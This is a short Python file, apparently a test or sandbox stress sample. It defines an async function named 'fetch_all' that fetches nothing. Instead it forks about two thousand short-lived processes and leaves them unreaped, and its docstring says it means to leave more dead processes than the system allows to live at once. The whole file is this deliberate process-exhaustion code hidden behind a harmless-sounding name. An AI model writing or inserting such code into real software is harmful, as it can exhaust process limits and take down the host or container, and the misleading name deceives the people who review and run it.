"""Leaves more dead processes than may live at once, for somebody else to bury."""

import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    for _ in range(100):
        child = os.fork()
        if child == 0:
            for _ in range(20):
                if os.fork() == 0:
                    os._exit(0)
            os._exit(0)
        os.waitpid(child, 0)
    return {}
